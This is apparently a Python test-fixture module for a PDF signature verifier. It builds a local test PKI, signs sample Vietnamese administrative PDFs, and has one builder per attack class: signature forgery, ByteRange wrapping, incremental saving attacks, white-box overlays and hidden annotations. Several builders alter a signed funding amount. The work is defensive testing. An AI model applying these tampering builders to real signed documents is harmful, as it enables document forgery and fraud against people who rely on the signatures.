"""Signed and tampered PDFs for the verifier's tests, made here from nothing.

A small test PKI (root → signer, TSA; a CRL), PDFs written by hand, signatures by pyHanko,
and one builder per class of attack. Nothing here depends on `certs/` or `signing/sign.py`:
the verifier is tested against files we control byte by byte.
"""
from __future__ import annotations

import io
import re
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from functools import lru_cache

from asn1crypto import crl as asn1_crl
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

CRL_URL = "http://127.0.0.1:9/crl"  # never fetched: tests validate offline


@dataclass(frozen=True)
class Identity:
    cert: asn1_x509.Certificate
    key: asn1_keys.PrivateKeyInfo


@dataclass(frozen=True)
class TestPKI:
    root: asn1_x509.Certificate
    signer: Identity
    second: Identity
    revoked: Identity
    tsa: Identity
    crl: asn1_crl.CertificateList
    stranger_root: asn1_x509.Certificate  # a root nobody's certificate chains to


def _name(cn: str, org: str = "Ủy ban nhân dân tỉnh Vĩnh Long") -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn), x509.NameAttribute(NameOID.ORGANIZATION_NAME, org),
                      x509.NameAttribute(NameOID.COUNTRY_NAME, "VN")])


def _cert(subject: x509.Name, issuer: x509.Name, public_key, issuer_key, *, ca: bool, eku=None,  # type: ignore[no-untyped-def]
          serial: int | None = None) -> x509.Certificate:
    now = datetime.now(timezone.utc)
    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer).public_key(public_key)
         .serial_number(serial or x509.random_serial_number())
         .not_valid_before(now - timedelta(days=1)).not_valid_after(now + timedelta(days=365))
         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
         .add_extension(x509.SubjectKeyIdentifier.from_public_key(public_key), critical=False))
    if ca:
        b = b.add_extension(x509.KeyUsage(True, False, False, False, False, True, True, False, False), critical=True)
    else:
        b = b.add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False), critical=True)
        b = b.add_extension(x509.CRLDistributionPoints([x509.DistributionPoint(
            [x509.UniformResourceIdentifier(CRL_URL)], None, None, None)]), critical=False)
    if eku:
        b = b.add_extension(x509.ExtendedKeyUsage(eku), critical=True)
    return b.sign(issuer_key, hashes.SHA256())


def _asn1_cert(cert: x509.Certificate) -> asn1_x509.Certificate:
    return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))


def _asn1_key(key) -> asn1_keys.PrivateKeyInfo:  # type: ignore[no-untyped-def]
    return asn1_keys.PrivateKeyInfo.load(key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8,
                                                           serialization.NoEncryption()))


@lru_cache(maxsize=1)
def pki() -> TestPKI:
    root_key = ec.generate_private_key(ec.SECP256R1())
    root_name = _name("Lienthong Test Root CA")
    root = _cert(root_name, root_name, root_key.public_key(), root_key, ca=True)

    def leaf(cn: str, *, rsa_key: bool = False, eku=None) -> tuple[x509.Certificate, object]:  # type: ignore[no-untyped-def]
        key = rsa.generate_private_key(65537, 2048) if rsa_key else ec.generate_private_key(ec.SECP256R1())
        return _cert(_name(cn), root_name, key.public_key(), root_key, ca=False, eku=eku), key

    signer, signer_key = leaf("Nguyễn Thị Lấp Lánh")
    second, second_key = leaf("Trần Văn Bình")
    revoked, revoked_key = leaf("Lê Văn Thu Hồi")
    # DummyTimeStamper signs with RSA PKCS#1 v1.5 only.
    tsa, tsa_key = leaf("Lienthong Test TSA", rsa_key=True, eku=[ExtendedKeyUsageOID.TIME_STAMPING])
    now = datetime.now(timezone.utc)
    crl = (x509.CertificateRevocationListBuilder().issuer_name(root_name)
           .last_update(now - timedelta(hours=1)).next_update(now + timedelta(days=7))
           .add_revoked_certificate(x509.RevokedCertificateBuilder().serial_number(revoked.serial_number)
                                    .revocation_date(now - timedelta(hours=1)).build())
           .sign(root_key, hashes.SHA256()))
    stranger_key = ec.generate_private_key(ec.SECP256R1())
    stranger = _cert(_name("Stranger Root"), _name("Stranger Root"), stranger_key.public_key(), stranger_key, ca=True)
    return TestPKI(
        root=_asn1_cert(root),
        signer=Identity(_asn1_cert(signer), _asn1_key(signer_key)),
        second=Identity(_asn1_cert(second), _asn1_key(second_key)),
        revoked=Identity(_asn1_cert(revoked), _asn1_key(revoked_key)),
        tsa=Identity(_asn1_cert(tsa), _asn1_key(tsa_key)),
        crl=asn1_crl.CertificateList.load(crl.public_bytes(serialization.Encoding.DER)),
        stranger_root=_asn1_cert(stranger),
    )


# --- PDFs written by hand ---------------------------------------------------------------------

def make_pdf(pages: list[str] | None = None, *, text_field_over_text: bool = False, blank_text_field: bool = False,
             cyclic_pages: bool = False, rotate: int = 0, dangling_content: int | None = None,
             trailer_extra: bytes = b"") -> bytes:
    """A small PDF, one line of text per page (Helvetica), optionally with a text form field.

    ``text_field_over_text`` puts an (empty) text field exactly over page 1's text: the stage
    of a shadow "replace via overlay" attack. ``blank_text_field`` puts one on blank paper.
    ``cyclic_pages`` makes the page tree contain itself; ``rotate`` sets /Rotate on every page.
    ``dangling_content`` adds a reference to that (undefined) object to page 1's /Contents;
    ``trailer_extra`` is written into the trailer dictionary (e.g. a producer's private entry).
    """
    pages = pages or ["Quyet dinh so 123/QD-UBND: cap kinh phi 1.000.000 dong."]
    objs: dict[int, bytes] = {}
    n_pages = len(pages)
    page_ids = [10 + 2 * i for i in range(n_pages)]
    field_id = 9
    fields = []
    if text_field_over_text:
        fields.append((field_id, b"[60 690 560 720]"))
    elif blank_text_field:
        fields.append((field_id, b"[60 300 560 330]"))
    acro = b""
    if fields:
        acro = b" /AcroForm << /Fields [%d 0 R] /DR << /Font << /F1 3 0 R >> >> >>" % field_id
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R%s >>" % acro
    kids = b" ".join(b"%d 0 R" % p for p in page_ids)
    if cyclic_pages:
        kids += b" 2 0 R"
    objs[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n_pages)
    objs[3] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    for i, (pid, text) in enumerate(zip(page_ids, pages)):
        stream = b"BT /F1 14 Tf 72 700 Td (%s) Tj ET" % text.encode("latin-1")
        annots = b" /Annots [%d 0 R]" % field_id if fields and i == 0 else b""
        contents = b"%d 0 R" % (pid + 1)
        if dangling_content is not None and i == 0:
            contents = b"[%s %d 0 R]" % (contents, dangling_content)
        objs[pid] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >>"
                     b" /Contents %s%s /Rotate %d >>" % (contents, annots, rotate))
        objs[pid + 1] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
    if fields:
        fid, rect = fields[0]
        objs[fid] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect %s /F 4 /P %d 0 R"
                     b" /DA (/F1 14 Tf 0 g) /AP << /N 8 0 R >> >>" % (rect, page_ids[0]))
        objs[8] = b"<< /Type /XObject /Subtype /Form /BBox [0 0 500 30] /Length 0 >>\nstream\n\nendstream"
    return _assemble(objs, trailer_extra)


def _assemble(objs: dict[int, bytes], trailer_extra: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (num, objs[num]))
    size = max(objs) + 1
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for num in range(1, size):
        if num in offsets:
            out.write(b"%010d 00000 n \n" % offsets[num])
        else:
            out.write(b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer_extra, xref))
    return out.getvalue()


# --- signing ----------------------------------------------------------------------------------

def validation_context(*, revinfo: bool = True):  # type: ignore[no-untyped-def]
    from pyhanko_certvalidator import ValidationContext

    p = pki()
    return ValidationContext(trust_roots=[p.root], crls=[p.crl] if revinfo else [], ocsps=[], allow_fetching=False,
                             revocation_mode="hard-fail")


def sign(data: bytes, *, level: str = "B-B", field: str = "Sig1", who: str = "signer",
         box: tuple[int, int, int, int] | None = None, certify: int | None = None, opaque: bool = False) -> bytes:
    """Sign with pyHanko at PAdES ``level`` (B-B, B-T, B-LT, B-LTA); visible when ``box`` is given.

    ``opaque``: the stamp paints a white box first (what a Sneaky Signature Attack does).
    """
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers
    from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
    from pyhanko.sign.timestamps import DummyTimeStamper
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    p = pki()
    ident: Identity = getattr(p, who)
    signer = signers.SimpleSigner(ident.cert, ident.key, SimpleCertificateStore.from_certs([p.root]))
    lt = level in ("B-LT", "B-LTA")
    meta = signers.PdfSignatureMetadata(
        field_name=field, md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES,
        embed_validation_info=lt, use_pades_lta=level == "B-LTA",
        validation_context=validation_context() if lt else None,
        certify=certify is not None, docmdp_permissions=MDPPerm(certify) if certify else MDPPerm.FILL_FORMS)
    tsa = None
    if level != "B-B":
        tsa = DummyTimeStamper(p.tsa.cert, p.tsa.key, certs_to_embed=SimpleCertificateStore.from_certs([p.root]))
    spec = fields.SigFieldSpec(field, on_page=0, box=box) if box else None
    style = None
    if opaque:
        from pyhanko.pdf_utils.content import RawContent
        from pyhanko.stamp import TextStampStyle

        style = TextStampStyle(background=RawContent(b"1 g -50 -50 2000 2000 re f"), background_opacity=1.0)
    pdf_signer = signers.PdfSigner(meta, signer, timestamper=tsa, new_field_spec=spec, stamp_style=style)
    out = io.BytesIO()
    pdf_signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(data), strict=False), output=out)
    return out.getvalue()


# --- attacks: one builder per class, each a general change, not a copy of a known file ---------

def flip_byte(data: bytes, offset: int | None = None) -> bytes:
    """Change one byte inside the signed range (page 1's text by default)."""
    if offset is None:
        offset = data.index(b"1.000.000")
    b = bytearray(data)
    b[offset] = ord("9") if b[offset] != ord("9") else ord("8")
    return bytes(b)


def _update(data: bytes, change) -> bytes:  # type: ignore[no-untyped-def]
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _first_page(w):  # type: ignore[no-untyped-def]
    kids = w.root["/Pages"]["/Kids"]
    return kids.raw_get(0)


def append_drawing(data: bytes, text: str = "DA DUYET 9.000.000 DONG") -> bytes:
    """Incremental update that draws new text on page 1 (page content changed)."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        ref = _first_page(w)
        page = ref.get_object()
        stream = generic.StreamObject(stream_data=b"BT /F1 20 Tf 72 600 Td (%s) Tj ET" % text.encode())
        new = w.add_object(stream)
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), new])
        w.update_container(page)

    return _update(data, change)


def add_page(data: bytes) -> bytes:
    """Incremental update that adds a page at the end."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        pages = w.root["/Pages"]
        stream = generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 700 Td (Trang them sau khi ky) Tj ET")
        page = generic.DictionaryObject({
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/Parent"): w.root.raw_get("/Pages"),
            generic.NameObject("/MediaBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 612, 792)]),
            generic.NameObject("/Contents"): w.add_object(stream),
            generic.NameObject("/Resources"): pages["/Kids"][0]["/Resources"],
        })
        pages["/Kids"].append(w.add_object(page))
        pages["/Count"] = generic.NumberObject(pages["/Count"] + 1)
        w.update_container(pages)

    return _update(data, change)


def add_text_annotation(data: bytes, rect: tuple[int, int, int, int] = (400, 400, 420, 420),
                        opaque: bool = False, gray: float = 1.0) -> bytes:
    """Incremental update that adds an annotation on page 1: a sticky note, or (``opaque``) a
    square filled with ``gray`` (1 = white: what an "evil annotation" uses to hide text)."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        page = _first_page(w).get_object()
        x0, y0, x1, y1 = rect
        annot = generic.DictionaryObject({
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Square" if opaque else "/Text"),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in rect]),
            generic.NameObject("/Contents"): generic.TextStringObject("Da xem"),
        })
        if opaque:
            ap = generic.StreamObject({
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, x1 - x0, y1 - y0)]),
            }, stream_data=b"%.2f g 0 0 %d %d re f" % (gray, x1 - x0, y1 - y0))
            annot["/AP"] = generic.DictionaryObject({generic.NameObject("/N"): w.add_object(ap)})
        annots = page["/Annots"] if "/Annots" in page else None
        arr = generic.ArrayObject([annots.raw_get(i) for i in range(len(annots))] if annots is not None else [])
        arr.append(w.add_object(annot))
        page["/Annots"] = arr
        w.update_container(page)

    return _update(data, change)


def fill_text_field(data: bytes, text: str = "9.000.000 dong", opaque: bool = True) -> bytes:
    """Form filling: set the text field's value and a new appearance (white box + text)."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        fields = w.root["/AcroForm"]["/Fields"]
        field_ref = next(f for f in (fields.raw_get(i) for i in range(len(fields)))
                         if f.get_object().get("/FT") == "/Tx")
        field = field_ref.get_object()
        paint = b"1 g 0 0 500 30 re f " if opaque else b""
        ap = generic.StreamObject({
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 500, 30)]),
            generic.NameObject("/Resources"): generic.DictionaryObject({generic.NameObject("/Font"): generic.DictionaryObject({
                generic.NameObject("/F1"): w.root["/AcroForm"]["/DR"]["/Font"].raw_get("/F1")})}),
        }, stream_data=paint + b"0 g BT /F1 14 Tf 12 10 Td (%s) Tj ET" % text.encode())
        field["/V"] = generic.TextStringObject(text)
        field["/AP"] = generic.DictionaryObject({generic.NameObject("/N"): w.add_object(ap)})
        w.update_container(field)

    return _update(data, change)


def hide_signatures(data: bytes) -> bytes:
    """Incremental update that removes every field from the form and every widget from the pages."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        form = w.root["/AcroForm"]
        form["/Fields"] = generic.ArrayObject([])
        w.update_container(form)
        page = _first_page(w).get_object()
        if "/Annots" in page:
            page["/Annots"] = generic.ArrayObject([])
            w.update_container(page)

    return _update(data, change)


def empty_contents(data: bytes, how: str = "zeros") -> bytes:
    """Universal Signature Forgery: blank the signature value in place (file size unchanged)."""
    m = re.search(rb"/Contents\s*<([0-9A-Fa-f]+)>", data)
    assert m is not None
    start, end = m.span(1)
    if how == "zeros":
        filler = b"0" * (end - start)
    else:  # "empty": an empty string, padding kept as spaces
        filler = b"" + b" " * (end - start)
    return data[:start] + filler + data[end:]


def wrap_byte_range(data: bytes) -> bytes:
    """Signature Wrapping: point /ByteRange's gap at other bytes (same digits, so same length)."""
    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
    assert m is not None
    a, b, c, d = (int(x) for x in m.groups())
    shift = 10 ** (len(str(b)) - 1) // 10 or 1
    new = m.group(0).replace(b" %d " % b, b" %d " % (b - shift), 1)
    if len(new) != len(m.group(0)):
        raise ValueError("could not keep the length")
    return data[:m.start()] + new + data[m.end():]


def append_unreferenced_update(data: bytes) -> bytes:
    """Incremental Saving Attack: a new page content object appended with an EMPTY xref section.

    A repairing viewer shows the new object; an xref-following validator does not see it.
    """
    page_content = re.search(rb"(\d+) 0 obj\s*<< /Length \d+ >>\s*stream", data)
    assert page_content is not None
    num = int(page_content.group(1))
    stream = b"BT /F1 14 Tf 72 700 Td (Quyet dinh so 123/QD-UBND: cap kinh phi 9.000.000 dong.) Tj ET"
    body = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (num, len(stream), stream)
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    xref_at = len(data) + len(body)
    tail = b"xref\n0 0\ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref_at)
    return data + body + tail


def append_garbage(data: bytes) -> bytes:
    """Bytes after the last %%EOF: an object no xref names, no trailer at all."""
    return data + b"\n99 0 obj\n<< /Type /Annot /Subtype /FreeText /Rect [0 0 612 792] >>\nendobj\n"


def cyclic_update(data: bytes) -> bytes:
    """Incremental update whose page tree contains itself (a cycle)."""

    def change(w):  # type: ignore[no-untyped-def]
        pages_ref = w.root.raw_get("/Pages")
        pages = pages_ref.get_object()
        pages["/Kids"].append(pages_ref)
        w.update_container(pages)

    return _update(data, change)


def forge_signature_dictionary(data: bytes, contents: bytes | None, byte_range: bytes | None) -> bytes:
    """Universal Signature Forgery: an update that rewrites the signature dictionary with the
    given raw /Contents and /ByteRange values (None leaves the key out)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data))
    sig_num = reader.embedded_signatures[0].sig_field.raw_get("/V").reference.idnum
    body = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
    if contents is not None:
        body += b" /Contents " + contents
    if byte_range is not None:
        body += b" /ByteRange " + byte_range
    body += b" /M (D:20260101000000Z) >>"
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    obj = b"\n%d 0 obj\n%s\nendobj\n" % (sig_num, body)
    xref = (b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (sig_num, len(data) + 1, size, re.findall(rb"/Root (\d+ \d+ R)", data)[-1], prev, len(data) + len(obj)))
    return data + obj + xref


def encrypt(data: bytes, user_password: str) -> bytes:
    """The same document encrypted (AES) with a user password."""
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.pdf_utils.writer import copy_into_new_writer

    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(data)))
    writer.encrypt("owner-secret", user_password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def append_malformed_update(data: bytes) -> bytes:
    """A hand-made update replacing page 1's content with a stream whose /Length is wrong
    (no 'endstream' where it says): viewers repair it and show it, strict parsers choke."""
    page_content = re.search(rb"(\d+) 0 obj\s*<< /Length \d+ >>\s*stream", data)
    assert page_content is not None
    num = int(page_content.group(1))
    stream = b"BT /F1 14 Tf 72 700 Td (Quyet dinh so 123/QD-UBND: cap kinh phi 9.000.000 dong.) Tj ET"
    body = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (num, len(stream) + 500, stream)
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    xref_at = len(data) + len(body)
    tail = (b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (num, len(data) + 1, size, root, prev, xref_at))
    return data + body + tail


def define_object(data: bytes, num: int, text: str = "DA DUYET 9.000.000 DONG") -> bytes:
    """A well-formed update that only defines object ``num`` as a content stream drawing
    ``text``: harmless unless a signed page already referred to that (then dangling) number."""
    stream = b"BT /F1 20 Tf 72 600 Td (%s) Tj ET" % text.encode()
    body = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (num, len(stream), stream)
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = max(int(re.findall(rb"/Size (\d+)", data)[-1]), num + 1)
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    tail = (b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (num, len(data) + 1, size, root, prev, len(data) + len(body)))
    return data + body + tail


def append_broken_update(data: bytes) -> bytes:
    """Incremental Saving Attack whose update breaks xref-following readers (startxref points
    nowhere) while a repairing viewer still finds the appended page content."""
    body = append_unreferenced_update(data)[len(data):]
    body = re.sub(rb"startxref\s+\d+", b"startxref\n999999999", body)
    return data + body


def hide_annotations(data: bytes, rewrite_page: bool = False) -> bytes:
    """Incremental update that sets the Hidden flag on page 1's comments and stamps
    (``rewrite_page``: and writes the page again, as a viewer adding a comment would)."""
    from pyhanko.pdf_utils import generic

    def change(w):  # type: ignore[no-untyped-def]
        page = _first_page(w).get_object()
        annots = page["/Annots"]
        for i in range(len(annots)):
            ref = annots.raw_get(i)
            annot = ref.get_object()
            if annot.get("/Subtype") != "/Widget":
                annot["/F"] = generic.NumberObject(2)
                w.update_container(annot)
        if rewrite_page:
            page["/Annots"] = generic.ArrayObject([annots.raw_get(i) for i in range(len(annots))])
            w.update_container(page)

    return _update(data, change)
